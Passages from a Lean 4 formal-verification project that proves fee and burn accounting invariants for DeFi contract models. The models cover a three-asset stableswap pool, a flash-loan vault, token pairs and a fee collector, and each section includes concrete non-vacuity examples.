    (s.incs.reg.take Gen.INCENTIVE_FACTORY_DEFAULT_LIMIT).length < s.incs.reg.length ∧
    regLookup [111] s.incs.reg = some 1 ∧
    step exMany s (.createInc 11) = .err ∧ step exMany s (.createInc 0) = .err ∧
    apply exMany s (.createInc 11) = s := by
  decide

end WW.C19
