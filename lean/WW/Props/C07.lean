/-
  C07 — Protocol and burn fees: every unit charged is accounted, nothing else moves.
  Property theorems only. The property spans four contract families; each family's model carries
  GHOST sums (`charged` = Σ protocol fees charged, `sent` = Σ transferred to the collector by
  collections, `burnedSum` = Σ burn fees) next to the real ledgers, and the theorems say the real
  ledgers equal the ghost sums in every reachable state:

    * three-asset stableswap pool — model WW/Model/Trio.lean (engine `trio`), lemmas in WW/Proofs/Trio.lean
    * flash-loan vault           — model WW/Model/Vault.lean (engine `vault`), lemmas in WW/Proofs/VaultLedger.lean
    * constant-product / two-asset stableswap pair — model WW/Model/Pair.lean (engine `pair`), lemmas
      in WW/Proofs/Pair.lean (section at the end of this file).  The pair theorems are stated for an
      ARBITRARY `Curve` (swap computation + LP mint rule), so they cover the constant-product and the
      two-asset stableswap pair alike: the ledger code in `commands.rs` is shared by both.
    * the fee collector's `CollectFees` — the message that TRIGGERS the collections of pairs and vaults —
      model WW/Model/{Collector,Feeflow}.lean (engine `feeflow`, also with coins attached to the message):
      last section of this file; the theorems are those of WW/Props/C10.lean.  A collection can reach a vault while
      one of its flash loans is in flight (the borrower sends `NewEpoch` / `CollectFees` from its callback:
      `Feeflow.Op.inloan`): `vault_ledger_across_inloan`.
-/
import WW.Proofs.Trio
import WW.Proofs.VaultLedger
import WW.Props.C05
import WW.Proofs.Pair
import WW.Props.C01
import WW.Props.C10
namespace WW.C07
open WW

/-! ## three-asset stableswap pool -/

/-- pending ledger = charged − transferred to the collector, for each of the three assets, after
    ANY history of provide / withdraw / swap / collect / config / donate operations -/
theorem trio_ledger_eq {s : Trio.St} (hi : Trio.Inv s) (ops : List (Nat × Nat × Trio.Op)) (i : Nat) :
    (Trio.run s ops).pend i = (Trio.run s ops).charged i - (Trio.run s ops).sent i ∧
    (Trio.run s ops).sent i ≤ (Trio.run s ops).charged i := Trio.trio_ledger_eq hi ops i

/-- the all-time collected counter equals the sum of the individual protocol-fee charges -/
theorem trio_all_time_eq {s : Trio.St} (hi : Trio.Inv s) (ops : List (Nat × Nat × Trio.Op)) (i : Nat) :
    (Trio.run s ops).allTime i = (Trio.run s ops).charged i := Trio.trio_all_time_eq hi ops i

/-- the all-time burned counter equals the sum of the individual burn charges -/
theorem trio_burned_eq {s : Trio.St} (hi : Trio.Inv s) (ops : List (Nat × Nat × Trio.Op)) (i : Nat) :
    (Trio.run s ops).burned i = (Trio.run s ops).burnedSum i := Trio.trio_burned_eq hi ops i

/-- counters only grow, and burned amounts really leave circulation (the asset's total supply drops
    by exactly the growth of the burn sum) -/
theorem trio_counters_step {s s' : Trio.St} {h u : Nat} {op : Trio.Op} (hs : Trio.step h u s op = .ok s')
    (i : Nat) :
    s.allTime i ≤ s'.allTime i ∧ s.burned i ≤ s'.burned i ∧ s.charged i ≤ s'.charged i ∧
    s.burnedSum i ≤ s'.burnedSum i ∧ s'.sup i = s.sup i - (s'.burnedSum i - s.burnedSum i) :=
  Trio.trio_counters_step hs i

/-- collecting transfers exactly the pending entries above the collectable threshold, to the
    configured collector and to no one else, zeroes exactly those entries (smaller ones stay on the
    ledger) and leaves every reported reserve, the counters and the LP supply unchanged -/
theorem trio_collect_exact {s s' : Trio.St} (hc : Trio.collect s = .ok s') (hi : Trio.Inv s) (j : Nat) :
    (s'.ub s.collector j = s.ub s.collector j + (if Trio.collectable s j then s.pend j else 0)) ∧
    (∀ a, a ≠ s.collector → s'.ub a j = s.ub a j) ∧
    (s'.pend j = if Trio.collectable s j then 0 else s.pend j) ∧
    (s'.bal j - s'.pend j = s.bal j - s.pend j) ∧
    (s.bal j - s'.bal j = if Trio.collectable s j then s.pend j else 0) ∧
    s'.allTime j = s.allTime j ∧ s'.burned j = s.burned j ∧ s'.lpSup = s.lpSup ∧
    s'.collector = s.collector := Trio.trio_collect_exact hc hi j

/-! ## flash-loan vault -/

/-- what one successful vault transaction does to the ledgers: it charges `pf` (only a flash loan —
    direct or through the router — charges anything, and then exactly `⌊share·loan⌋`), burns `bf`
    (supply drops by exactly `bf`), and moves `c` from the pending ledger to the collector.
    `op.core` = the message itself without stray coins that may be attached to it (`Op.attach`): the
    statement covers every message sent WITH coins it does not ask for. -/
theorem vault_step_ledger {s s' : Vault.St} (op : Vault.Op) (hI : Vault.Inv s)
    (h : Vault.step s op = some s') :
    ∃ pf bf c, Vault.LedgerStep s s' pf bf c ∧
      (pf ≠ 0 ∨ bf ≠ 0 →
        ∃ amount, (∃ cb, op.core = .loan amount cb) ∨ (∃ i p, op.core = .routerLoan i amount p)) :=
  Vault.step_ledger op hI h

/-- pending = charged − transferred (`allTime` is the sum of all charges, `sent` the ghost sum of
    all collections), and burned + circulating supply is constant, after ANY history of vault
    operations incl. flash loans with arbitrary (re-entrant, collecting) callback trees -/
theorem vault_ledger_eq {K : Nat} {s : Vault.St} (hI : Vault.Inv s) (hL : Vault.LedgerInv K s)
    (ops : List Vault.Op) :
    let s' := Vault.reach s ops
    s'.pend = s'.allTime - s'.sent ∧ s'.sent ≤ s'.allTime ∧ s'.burned + s'.assetSupply = K := by
  intro s'
  have key : Vault.Inv s' ∧ Vault.LedgerInv K s' := by
    show Vault.Inv (Vault.reach s ops) ∧ Vault.LedgerInv K (Vault.reach s ops)
    induction ops generalizing s with
    | nil => exact ⟨hI, hL⟩
    | cons op ops ih =>
      simp only [Vault.reach, List.foldl_cons]
      unfold Vault.apply
      cases h : Vault.step s op with
      | none => exact ih hI hL
      | some s1 => exact ih (C05.price_step op hI h).1 (Vault.ledgerInv_step op hI hL h)
  have := key.2.ledger
  exact ⟨by omega, by omega, key.2.supply⟩

/-- the ledger invariant holds right after instantiation (nothing charged, nothing sent) -/
theorem vault_ledger_init (kind : Nat) (f : Vault.VFees) (ab : List Nat) :
    Vault.LedgerInv (Vault.init kind f ab).assetSupply (Vault.init kind f ab) :=
  ⟨rfl, by simp [Vault.init]⟩

/-- all-time and burned counters only grow -/
theorem vault_counters_monotone {s s' : Vault.St} (op : Vault.Op) (hI : Vault.Inv s)
    (h : Vault.step s op = some s') : s.allTime ≤ s'.allTime ∧ s.burned ≤ s'.burned ∧ s.sent ≤ s'.sent := by
  obtain ⟨pf, bf, c, L, _⟩ := Vault.step_ledger op hI h
  have := L.allTime; have := L.burned; have := L.sent
  omega

/-- collecting transfers exactly the pending amount to the collector (account 4), zeroes the ledger,
    and leaves the assets backing the shares and the share supply unchanged -/
theorem vault_collect_exact {s s' : Vault.St} (hI : Vault.Inv s) (h : Vault.collect s = some s') :
    Vault.getN s'.ab 4 = Vault.getN s.ab 4 + s.pend ∧ s'.pend = 0 ∧ s'.bal + s.pend = s.bal ∧
    Vault.backing s' = Vault.backing s ∧ s'.sup = s.sup := by
  obtain ⟨_, hb, hs, h4, hp, hbal⟩ := Vault.collect_spec hI h
  exact ⟨h4, hp, hbal, hb, hs⟩

/-- … and to no one else -/
theorem vault_collect_to_collector_only {s s' : Vault.St} (h : Vault.collect s = some s') (j : Nat)
    (hj : j ≠ 4) : Vault.getN s'.ab j = Vault.getN s.ab j := by
  unfold Vault.collect at h
  split at h
  · injection h with h; subst h; rfl
  · split at h
    · cases h
    · injection h with h; subst h
      simp only [Vault.collectRes]
      exact Vault.getN_setN_ne _ _ _ _ (by omega)

/-- **Stray coins never change the ledgers**: coins attached to any message of the vault or the router
    that does not ask for them (the vault asset's own denom or an unrelated one, any sender, any amount)
    arrive before the handler runs and leave pending fees, the all-time and burned counters, the ghost
    sum of collector transfers, the asset's total supply, the fee configuration and the toggles as they
    were; the message then runs from that state `s1` exactly as without coins. -/
theorem vault_stray_coins_keep_ledgers {s s' : Vault.St} {who sel n : Nat} {op : Vault.Op}
    (hI : Vault.Inv s) (h : Vault.step s (.attach who sel n op) = some s') :
    ∃ s1, Vault.step s1 op = some s' ∧ s1.pend = s.pend ∧ s1.allTime = s.allTime ∧ s1.burned = s.burned ∧
      s1.sent = s.sent ∧ s1.assetSupply = s.assetSupply ∧ s1.fees = s.fees ∧ s.bal ≤ s1.bal ∧
      Vault.getN s1.ab 4 = Vault.getN s.ab 4 := by
  obtain ⟨dst, s1, _, _, ha, hs⟩ := Vault.attach_parts h
  have A := Vault.arrive_spec hI ha
  refine ⟨s1, hs, A.pend, A.allTime, A.burned, A.sent, A.assetSupply, A.fees, A.balGe, ?_⟩
  -- the collector (account 4) is neither a sender nor a receiving contract
  by_cases hsel : sel = 0
  · subst hsel
    unfold Vault.arrive at ha
    split at ha
    · cases ha
    rw [if_pos rfl] at ha
    split at ha
    · cases ha
    split at ha
    · obtain ⟨rfl, _⟩ := Vault.payIn_spec hI.abLen (by omega) ha
      exact Vault.getN_setN_ne _ _ _ _ (by omega)
    · obtain ⟨_, _, _, _, hab⟩ := Vault.move_spec hI.abLen (by omega) (by omega) ha
      rw [hab, Vault.getN_setN_ne _ _ _ _ (by omega), Vault.getN_setN_ne _ _ _ _ (by omega)]
  · obtain ⟨rfl, _⟩ := Vault.arrive_junk hsel ha
    rfl

/-- The unrelated denom is never paid out by the vault or the router: over ANY history (stray coins
    attached to any messages, loans with arbitrary callbacks and payloads) its total is conserved, no
    account other than the vault (entry 7) and the router (entry 5) ever gains any, and those two never
    lose any — stray coins of a foreign denom stay on the contract they were sent to. -/
theorem vault_foreign_coins_stay {s : Vault.St} (hI : Vault.Inv s) (hj : s.jb.length = 8)
    (ops : List Vault.Op) :
    Vault.JRel s (Vault.reach s ops) := by
  induction ops generalizing s with
  | nil => exact Vault.JRel.of_eq rfl
  | cons op ops ih =>
    simp only [Vault.reach, List.foldl_cons]
    unfold Vault.apply
    cases h : Vault.step s op with
    | none => exact ih hI hj
    | some s1 =>
      have r := Vault.step_jrel op hI hj h
      exact r.trans (ih (C05.price_step op hI h).1 (by rw [r.len]; exact hj))

/-- non-vacuity: a concrete vault history with a loan, a collection and a second loan -/
example :
    let s0 := Vault.init 0 ⟨10000000000000000, 3000000000000000, 1000000000000000⟩ [5000000, 5000000, 0, 100000, 0, 0]
    let s := Vault.reach s0 [.deposit 0 1000000 1000000, .loan 500000 [.pay 507000], .collect, .loan 100000 [.pay 101400]]
    (s.pend, s.sent, s.allTime, s.burned, s0.assetSupply - s.assetSupply) = (1000, 5000, 6000, 600, 600) := by
  decide

/-! ## constant-product / two-asset stableswap pair (any `Curve`) -/

/-- in every state reachable from a state satisfying the ledger invariant (e.g. a freshly
    instantiated pair, `pair_ledger_init`), by ANY history of provide / swap / withdraw / collect /
    fee changes / plain transfers / malformed swaps, for BOTH assets and ANY pair type:
    pending = charged − transferred to the collector; all-time collected = Σ protocol-fee charges;
    all-time burned = Σ burn charges; the two collector accounts (the one named at instantiation and the
    one `UpdateConfig{fee_collector_addr}` can switch to) together hold exactly what collections sent;
    circulating amount + burned = constant (burned amounts really leave circulation); and every
    circulating unit is on the pair, with the collector or with a user (nothing else moves) -/
theorem pair_ledger_eq {cv : Pair.Curve} {K0 C0 K1 C1 : Nat} (s : Pair.St) (hL : Pair.LInv K0 C0 K1 C1 s)
    (ops : List Pair.Op) :
    let s' := Pair.reach cv s ops
    (s'.x0.pend = s'.x0.chg - s'.x0.sent ∧ s'.x0.sent ≤ s'.x0.chg ∧ s'.x0.allTime = s'.x0.chg ∧
      s'.x0.burned = s'.x0.brn ∧ s'.x0.col + s'.x0.colB = C0 + s'.x0.sent ∧ s'.x0.tot + s'.x0.brn = K0 ∧
      s'.x0.tot = s'.x0.bal + s'.x0.col + s'.x0.colB + Pair.sumF (·.a) s'.users) ∧
    (s'.x1.pend = s'.x1.chg - s'.x1.sent ∧ s'.x1.sent ≤ s'.x1.chg ∧ s'.x1.allTime = s'.x1.chg ∧
      s'.x1.burned = s'.x1.brn ∧ s'.x1.col + s'.x1.colB = C1 + s'.x1.sent ∧ s'.x1.tot + s'.x1.brn = K1 ∧
      s'.x1.tot = s'.x1.bal + s'.x1.col + s'.x1.colB + Pair.sumF (·.b) s'.users) := by
  intro s'
  have h : Pair.LInv K0 C0 K1 C1 s' := Pair.reach_linv (cv := cv) s hL ops
  have a := h.l0; have b := h.l1; have c := h.cons
  have := a.ledger; have := b.ledger
  exact ⟨⟨by omega, by omega, a.allTime, a.burned, a.col, a.supply, c.c0⟩,
         ⟨by omega, by omega, b.allTime, b.burned, b.col, b.supply, c.c1⟩⟩

/-- the ledger invariant holds right after instantiation (nothing charged, sent or burned) -/
theorem pair_ledger_init (n0 n1 : Bool) (f : Fees) (us : List Pair.User) :
    Pair.LInv (Pair.sumF (·.a) us) 0 (Pair.sumF (·.b) us) 0 (Pair.init n0 n1 f us) :=
  Pair.init_linv n0 n1 f us

/-- **only swaps charge, only collections pay the collector, counters only grow**: one successful
    operation adds `(pf, bf)` to charged / all-time and burn-sum / burned counters — non-zero only for a
    swap — and moves `sent` from the pending ledger to the collector — non-zero only for a collection -/
theorem pair_step_ledger {cv : Pair.Curve} {s s' : Pair.St} {op : Pair.Op} (h : Pair.step cv s op = .ok s') :
    ∃ pf0 bf0 st0 pf1 bf1 st1, Pair.SideDelta s.x0 s'.x0 pf0 bf0 st0 ∧ Pair.SideDelta s.x1 s'.x1 pf1 bf1 st1 ∧
      ((pf0 ≠ 0 ∨ bf0 ≠ 0 ∨ pf1 ≠ 0 ∨ bf1 ≠ 0) →
        (∃ u dir off ms rcv, op = .swap u dir off ms rcv) ∨ (∃ u dir off sent, op = .swapBad u dir off sent)) ∧
      ((st0 ≠ 0 ∨ st1 ≠ 0) → op = .collect) := Pair.step_deltas h

/-- **collecting transfers exactly the pending entries above the 1000 threshold to the CONFIGURED
    collector and to no one else** (entries at or below it stay on the ledger; the collector account
    that is not configured at that moment receives nothing), and changes neither the reported reserves,
    nor the counters, nor the LP supply, nor any user's balance -/
theorem pair_collect_exact {s s' : Pair.St} (h : Pair.collect s = .ok s') :
    (s'.x0.col = s.x0.col + (if 1000 < s.x0.pend ∧ s.useB = false then s.x0.pend else 0) ∧
      s'.x0.colB = s.x0.colB + (if 1000 < s.x0.pend ∧ s.useB = true then s.x0.pend else 0) ∧
      s'.x0.pend = (if 1000 < s.x0.pend then 0 else s.x0.pend) ∧
      s.x0.bal - s'.x0.bal = (if 1000 < s.x0.pend then s.x0.pend else 0) ∧ s'.x0.res = s.x0.res ∧
      s'.x0.allTime = s.x0.allTime ∧ s'.x0.burned = s.x0.burned ∧ s'.x0.tot = s.x0.tot) ∧
    (s'.x1.col = s.x1.col + (if 1000 < s.x1.pend ∧ s.useB = false then s.x1.pend else 0) ∧
      s'.x1.colB = s.x1.colB + (if 1000 < s.x1.pend ∧ s.useB = true then s.x1.pend else 0) ∧
      s'.x1.pend = (if 1000 < s.x1.pend then 0 else s.x1.pend) ∧
      s.x1.bal - s'.x1.bal = (if 1000 < s.x1.pend then s.x1.pend else 0) ∧ s'.x1.res = s.x1.res ∧
      s'.x1.allTime = s.x1.allTime ∧ s'.x1.burned = s.x1.burned ∧ s'.x1.tot = s.x1.tot) ∧
    s'.users = s.users ∧ s'.sup = s.sup ∧ s'.lpPair = s.lpPair ∧ s'.fees = s.fees ∧ s'.useB = s.useB := by
  obtain ⟨y0, y1, h0, h1, e⟩ := Pair.collect_ok h
  subst e
  obtain ⟨c0, cb0, p0, d0, _, r0, a0, b0, _, _, t0, _⟩ := Pair.collectSide_exact h0
  obtain ⟨c1, cb1, p1, d1, _, r1, a1, b1, _, _, t1, _⟩ := Pair.collectSide_exact h1
  have hm : Gen.PAIR_MINIMUM_COLLECTABLE_BALANCE = 1000 := rfl
  simp only [Pair.collectable, hm, Bool.and_eq_true, decide_eq_true_eq, Bool.not_eq_true'] at c0 cb0 p0 d0 c1 cb1 p1 d1
  exact ⟨⟨c0, cb0, p0, d0, r0, a0, b0, t0⟩, ⟨c1, cb1, p1, d1, r1, a1, b1, t1⟩, rfl, rfl, rfl, rfl, rfl⟩

/-- **nothing else moves**: a successful operation of any pair type (swap, collection, deposit, …) never
    lowers the asset or LP balances of any user other than the sender of the message; in particular
    charging, collecting and burning fees takes nothing from bystanders -/
theorem pair_others_never_lose {cv : Pair.Curve} {s s' : Pair.St} {op : Pair.Op} (h : Pair.step cv s op = .ok s')
    (v : Nat) (hv : op.actor ≠ some v) :
    (s.user v).a ≤ (s'.user v).a ∧ (s.user v).b ≤ (s'.user v).b ∧ (s.user v).lp ≤ (s'.user v).lp :=
  Pair.others_never_lose h v hv

/-- `UpdateConfig{fee_collector_addr}`: only the owner; it moves nothing and only re-targets later
    collections -/
theorem pair_set_collector {s s' : Pair.St} {o b : Bool} (h : Pair.setCollector s o b = .ok s') :
    o = true ∧ s' = { s with useB := b } := Pair.setCollector_ok h

/-- non-vacuity: a constant-product history with a charged swap, a collection above the threshold and
    a second swap whose fee stays below it -/
example :
    let s := Pair.reach Pair.cpCurve WW.C01.exInit WW.C01.exOps
    s.x1.chg = 1142 ∧ s.x1.sent = 1142 ∧ s.x1.pend = 0 ∧ s.x0.chg = 24 ∧ s.x0.pend = 24 ∧ s.x0.sent = 0 ∧
    s.x1.tot + 1142 = 3000000000 := by decide

/-- non-vacuity for the TWO-ASSET STABLESWAP pair (amp 100, decimals 6/6, fees 1 % / 0.2 % / 0.1 %): the
    same theorems apply with `ssCurve`; a charged swap (protocol fee 9 999, burn 999), a collection, a
    swap the other way whose fee (500) stays below the threshold, a withdrawal -/
example :
    let s := Pair.reach (Pair.ssCurve 100 6 6)
      (Pair.init true true ⟨10000000000000000, 2000000000000000, 1000000000000000⟩
        [⟨1000000000000, 1000000000000, 0⟩, ⟨1000000000000, 1000000000000, 0⟩, ⟨1000000000000, 1000000000000, 0⟩])
      [.provide 0 0 100000000 100000000 none, .swap 1 0 1000000 (some 500000000000000000) 1, .collect,
       .swap 2 1 50000 (some 500000000000000000) 2, .withdraw 0 1000000]
    s.x1.chg = 9999 ∧ s.x1.sent = 9999 ∧ s.x1.col = 9999 ∧ s.x1.pend = 0 ∧ s.x1.brn = 999 ∧
    s.x0.chg = 500 ∧ s.x0.pend = 500 ∧ s.x0.sent = 0 ∧ s.lpPair = 2000 ∧ s.sup = 199000000 := by decide +kernel

/-! ## the fee collector's `CollectFees` (engine `feeflow`): what the collections are triggered by -/

/-- a `CollectFees` sent to the collector by anybody moves, per asset, exactly the collectable pending fees of
    the named pairs / vaults into the collector (collector + pending conserved) and touches nothing else -/
theorem collector_collect_exact (s s' : Collector.St) (sender : Nat) (f : Collector.FeesFor)
    (h : Collector.collectFees s sender f = .ok s') :
    (∀ i, s'.bal i = s.bal i + Collector.directCollected s f i) ∧
    (∀ i, s'.bal i + Collector.vaultsPending i s'.vaults + Collector.poolsPending i s'.pools =
          s.bal i + Collector.vaultsPending i s.vaults + Collector.poolsPending i s.pools) :=
  ⟨(WW.C10.direct_collect_exact s s' sender f h).1, (WW.C10.direct_collect_exact s s' sender f h).2.1⟩

/-- **coins attached to a collection never reach a pair or a vault and never change what is collected**: the
    pending ledgers after `CollectFees` with `x` of ANY asset `a` attached are those of the plain collection
    from the same state, the collector ends up with balance before + collected + attached, and the
    distributor, the DAO and every other contract balance of the model are untouched -/
theorem collector_collect_ignores_attached_coins (cfg : Feeflow.Cfg) (s s' : Feeflow.St) (payer a x sender : Nat)
    (f : Collector.FeesFor) (h : Feeflow.step cfg s (.coins payer a x (.collect sender f)) = .ok s') :
    ∃ c0, Collector.collectFees s.c sender f = .ok c0 ∧
      s'.c.pools = c0.pools ∧ s'.c.vaults = c0.vaults ∧
      (∀ i, s'.c.bal i = s.c.bal i + Collector.directCollected s.c f i + (if a = i then x else 0)) ∧
      s'.d = s.d ∧ s'.daoBal = s.daoBal ∧ s'.xb = s.xb := by
  obtain ⟨c0, h0, hp, hv, _, hb, _, hd, hdao, _, hxb, _⟩ :=
    WW.C10.stray_coins_stay_on_collector cfg s s' payer a x sender f h
  exact ⟨c0, h0, hp, hv, hb, hd, hdao, hxb⟩

/-! ## a collection that reaches a vault WHILE ONE OF ITS FLASH LOANS IS IN FLIGHT (engine `feeflow`, `Op.inloan`) -/

/-- **vault_ledger_across_inloan** — the lending vault's ledgers across a completed transaction `FlashLoan` → the
    borrower's callback runs ANY operation `inner` (a `NewEpoch`, a direct `CollectFees`, …) → repayment, for all amounts,
    balances and fee shares: (ledger) what is pending afterwards = pending before + the protocol fee charged for this loan
    − what was paid out to the collector in mid-loan, i.e. the ledger is lowered by exactly what was transferred, also
    with the loan counter at 1; (bank) the vault's balance moved by nothing but the loan, that transfer, the repayment
    and the burn: balance after + paid out + burn fee + loan = balance before + repayment -/
theorem vault_ledger_across_inloan (s : Feeflow.St) (k amount vbal : Nat) (mode : Feeflow.Repay)
    (fees : Feeflow.LoanFees) (inner : Feeflow.St → Res Feeflow.St) (o : Feeflow.LoanOut)
    (h : Feeflow.inloanRun s k amount mode vbal fees inner = .ok o) :
    ∃ s1, inner s = .ok s1 ∧
      (Feeflow.pendOf s1 k ≤ Feeflow.pendOf s k → (s1.c.vaults[k]?).isSome = true →
        Feeflow.pendOf o.st k + o.paidOut = Feeflow.pendOf s k + Feeflow.loanFee fees.prot amount) ∧
      o.paidOut = Feeflow.pendOf s k - Feeflow.pendOf s1 k ∧
      o.endBal + o.paidOut + Feeflow.loanFee fees.burn amount + amount = vbal + o.repaid := by
  obtain ⟨_, hcov, hle, extra, _, _, hend, hrep⟩ := WW.C10.inloan_vault_ends_with_fees s k amount vbal mode fees inner o h
  obtain ⟨s1, hi, hc, _, _, _⟩ := Feeflow.inloanRun_ok h
  obtain ⟨_, _, _, hst, _, _, hp⟩ := Feeflow.loanClose_ok hc
  refine ⟨s1, hi, fun hmono hsome => ?_, hp, ?_⟩
  · rw [hst, Feeflow.pendOf_accrueLoan, if_pos ⟨rfl, hsome⟩, hp]
    unfold Feeflow.loanPaidOut
    omega
  · rw [hend, hrep]; omega

/-- on numbers: the uusdc vault of `WW.C10.jst` (2500 pending, balance 1 000 000, 1 % / 0.1 % fees) lends 400 000 and is
    collected from in mid-loan: 4000 + 2500 paid out = 2500 + 4000 charged; 1 004 400 + 2500 + 0 + 400 000 = 1 000 000 + 406 900 -/
example : ((Feeflow.inloanRun WW.C10.jst 1 400000 .exact 1000000 WW.C10.f1
      (fun s0 => Feeflow.step WW.C10.jcfg s0 (.collect 1003 (.oneVault 1)))).toOption.map
    fun o => (Feeflow.pendOf o.st 1, o.paidOut, o.endBal, o.repaid)) = some (4000, 2500, 1004400, 406900) := by decide

end WW.C07
