/-
  C07 — Protocol and burn fees: every unit charged is accounted, nothing else moves.
  Property theorems only. The property spans four contract families; each family's model carries
  GHOST sums (`charged` = Σ protocol fees charged, `sent` = Σ transferred to the collector by
  collections, `burnedSum` = Σ burn fees) next to the real ledgers, and the theorems say the real
  ledgers equal the ghost sums in every reachable state:

    * three-asset stableswap pool — model WW/Model/Trio.lean (engine `trio`), lemmas in WW/Proofs/Trio.lean
    * flash-loan vault           — model WW/Model/Vault.lean (engine `vault`), lemmas in WW/Proofs/VaultLedger.lean
    * constant-product / two-asset stableswap pair — model WW/Model/Pair.lean (engine `pair`,
      `pairledger`), lemmas in WW/Proofs/Pair.lean (section at the end of this file)
-/
import WW.Proofs.Trio
import WW.Proofs.VaultLedger
import WW.Props.C05
namespace WW.C07
open WW

/-! ## three-asset stableswap pool -/

/-- pending ledger = charged − transferred to the collector, for each of the three assets, after
    ANY history of provide / withdraw / swap / collect / config / donate operations -/
theorem trio_ledger_eq {s : Trio.St} (hi : Trio.Inv s) (ops : List (Nat × Nat × Trio.Op)) (i : Nat) :
    (Trio.run s ops).pend i = (Trio.run s ops).charged i - (Trio.run s ops).sent i ∧
    (Trio.run s ops).sent i ≤ (Trio.run s ops).charged i := Trio.trio_ledger_eq hi ops i

/-- the all-time collected counter equals the sum of the individual protocol-fee charges -/
theorem trio_all_time_eq {s : Trio.St} (hi : Trio.Inv s) (ops : List (Nat × Nat × Trio.Op)) (i : Nat) :
    (Trio.run s ops).allTime i = (Trio.run s ops).charged i := Trio.trio_all_time_eq hi ops i

/-- the all-time burned counter equals the sum of the individual burn charges -/
theorem trio_burned_eq {s : Trio.St} (hi : Trio.Inv s) (ops : List (Nat × Nat × Trio.Op)) (i : Nat) :
    (Trio.run s ops).burned i = (Trio.run s ops).burnedSum i := Trio.trio_burned_eq hi ops i

/-- counters only grow, and burned amounts really leave circulation (the asset's total supply drops
    by exactly the growth of the burn sum) -/
theorem trio_counters_step {s s' : Trio.St} {h u : Nat} {op : Trio.Op} (hs : Trio.step h u s op = .ok s')
    (i : Nat) :
    s.allTime i ≤ s'.allTime i ∧ s.burned i ≤ s'.burned i ∧ s.charged i ≤ s'.charged i ∧
    s.burnedSum i ≤ s'.burnedSum i ∧ s'.sup i = s.sup i - (s'.burnedSum i - s.burnedSum i) :=
  Trio.trio_counters_step hs i

/-- collecting transfers exactly the pending entries above the collectable threshold, to the
    configured collector and to no one else, zeroes exactly those entries (smaller ones stay on the
    ledger) and leaves every reported reserve, the counters and the LP supply unchanged -/
theorem trio_collect_exact {s s' : Trio.St} (hc : Trio.collect s = .ok s') (hi : Trio.Inv s) (j : Nat) :
    (s'.ub s.collector j = s.ub s.collector j + (if Trio.collectable s j then s.pend j else 0)) ∧
    (∀ a, a ≠ s.collector → s'.ub a j = s.ub a j) ∧
    (s'.pend j = if Trio.collectable s j then 0 else s.pend j) ∧
    (s'.bal j - s'.pend j = s.bal j - s.pend j) ∧
    (s.bal j - s'.bal j = if Trio.collectable s j then s.pend j else 0) ∧
    s'.allTime j = s.allTime j ∧ s'.burned j = s.burned j ∧ s'.lpSup = s.lpSup ∧
    s'.collector = s.collector := Trio.trio_collect_exact hc hi j

/-! ## flash-loan vault -/

/-- what one successful vault transaction does to the ledgers: it charges `pf` (only a flash loan —
    direct or through the router — charges anything, and then exactly `⌊share·loan⌋`), burns `bf`
    (supply drops by exactly `bf`), and moves `c` from the pending ledger to the collector -/
theorem vault_step_ledger {s s' : Vault.St} (op : Vault.Op) (hI : Vault.Inv s)
    (h : Vault.step s op = some s') :
    ∃ pf bf c, Vault.LedgerStep s s' pf bf c ∧
      (pf ≠ 0 ∨ bf ≠ 0 →
        ∃ amount, (∃ cb, op = .loan amount cb) ∨ (∃ i p, op = .routerLoan i amount p)) :=
  Vault.step_ledger op hI h

/-- pending = charged − transferred (`allTime` is the sum of all charges, `sent` the ghost sum of
    all collections), and burned + circulating supply is constant, after ANY history of vault
    operations incl. flash loans with arbitrary (re-entrant, collecting) callback trees -/
theorem vault_ledger_eq {K : Nat} {s : Vault.St} (hI : Vault.Inv s) (hL : Vault.LedgerInv K s)
    (ops : List Vault.Op) :
    let s' := Vault.reach s ops
    s'.pend = s'.allTime - s'.sent ∧ s'.sent ≤ s'.allTime ∧ s'.burned + s'.assetSupply = K := by
  intro s'
  have key : Vault.Inv s' ∧ Vault.LedgerInv K s' := by
    show Vault.Inv (Vault.reach s ops) ∧ Vault.LedgerInv K (Vault.reach s ops)
    induction ops generalizing s with
    | nil => exact ⟨hI, hL⟩
    | cons op ops ih =>
      simp only [Vault.reach, List.foldl_cons]
      unfold Vault.apply
      cases h : Vault.step s op with
      | none => exact ih hI hL
      | some s1 => exact ih (C05.price_step op hI h).1 (Vault.ledgerInv_step op hI hL h)
  have := key.2.ledger
  exact ⟨by omega, by omega, key.2.supply⟩

/-- the ledger invariant holds right after instantiation (nothing charged, nothing sent) -/
theorem vault_ledger_init (kind : Nat) (f : Vault.VFees) (ab : List Nat) :
    Vault.LedgerInv (Vault.init kind f ab).assetSupply (Vault.init kind f ab) :=
  ⟨rfl, by simp [Vault.init]⟩

/-- all-time and burned counters only grow -/
theorem vault_counters_monotone {s s' : Vault.St} (op : Vault.Op) (hI : Vault.Inv s)
    (h : Vault.step s op = some s') : s.allTime ≤ s'.allTime ∧ s.burned ≤ s'.burned ∧ s.sent ≤ s'.sent := by
  obtain ⟨pf, bf, c, L, _⟩ := Vault.step_ledger op hI h
  have := L.allTime; have := L.burned; have := L.sent
  omega

/-- collecting transfers exactly the pending amount to the collector (account 4), zeroes the ledger,
    and leaves the assets backing the shares and the share supply unchanged -/
theorem vault_collect_exact {s s' : Vault.St} (hI : Vault.Inv s) (h : Vault.collect s = some s') :
    Vault.getN s'.ab 4 = Vault.getN s.ab 4 + s.pend ∧ s'.pend = 0 ∧ s'.bal + s.pend = s.bal ∧
    Vault.backing s' = Vault.backing s ∧ s'.sup = s.sup := by
  obtain ⟨_, hb, hs, h4, hp, hbal⟩ := Vault.collect_spec hI h
  exact ⟨h4, hp, hbal, hb, hs⟩

/-- … and to no one else -/
theorem vault_collect_to_collector_only {s s' : Vault.St} (h : Vault.collect s = some s') (j : Nat)
    (hj : j ≠ 4) : Vault.getN s'.ab j = Vault.getN s.ab j := by
  unfold Vault.collect at h
  split at h
  · injection h with h; subst h; rfl
  · split at h
    · cases h
    · injection h with h; subst h
      simp only [Vault.collectRes]
      exact Vault.getN_setN_ne _ _ _ _ (by omega)

/-- non-vacuity: a concrete vault history with a loan, a collection and a second loan -/
example :
    let s0 := Vault.init 0 ⟨10000000000000000, 3000000000000000, 1000000000000000⟩ [5000000, 5000000, 0, 100000, 0, 0]
    let s := Vault.reach s0 [.deposit 0 1000000 1000000, .loan 500000 [.pay 507000], .collect, .loan 100000 [.pay 101400]]
    (s.pend, s.sent, s.allTime, s.burned, s0.assetSupply - s.assetSupply) = (1000, 5000, 6000, 600, 600) := by
  decide

end WW.C07
