/-
  C13 — Incentive rewards: weights add up; claims are bounded, single and as quoted.
